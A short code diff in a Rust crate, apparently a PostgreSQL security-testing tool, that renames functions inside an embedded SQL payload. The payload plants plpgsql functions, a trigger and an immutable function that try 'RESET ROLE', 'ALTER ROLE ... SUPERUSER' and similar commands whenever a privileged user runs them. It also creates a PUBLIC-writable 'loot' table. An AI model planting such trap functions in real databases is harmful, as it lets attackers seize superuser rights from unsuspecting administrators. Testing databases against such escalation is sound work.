@@ -28,7 +28,7 @@ pub(crate) struct Planner {
 
 /// Makes whoever runs it give the planner's role all rights, in whatever way it can.
 const PLANT: &str = "
-    CREATE FUNCTION public.plant_code() RETURNS boolean LANGUAGE plpgsql AS $$
+    CREATE FUNCTION public.plant() RETURNS boolean LANGUAGE plpgsql AS $$
     DECLARE attempt text;
     BEGIN
         FOREACH attempt IN ARRAY ARRAY['RESET ROLE', 'RESET SESSION AUTHORIZATION', 'ALTER ROLE ROLE_NAME SUPERUSER',
@@ -38,9 +38,9 @@ const PLANT: &str = "
         END LOOP;
         RETURN true;
     END $$;
-    CREATE FUNCTION public.plant_trigger() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.plant_code(); RETURN new; END';
+    CREATE FUNCTION public.plant_trigger() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.plant(); RETURN new; END';
     CREATE FUNCTION public.plant_in(anyelement) RETURNS anyelement LANGUAGE plpgsql IMMUTABLE AS
-        'BEGIN PERFORM public.plant_code(); RETURN $1; END';
+        'BEGIN PERFORM public.plant(); RETURN $1; END';
     CREATE TABLE public.loot (who text); GRANT INSERT ON public.loot TO PUBLIC;";
 
 impl Planner {
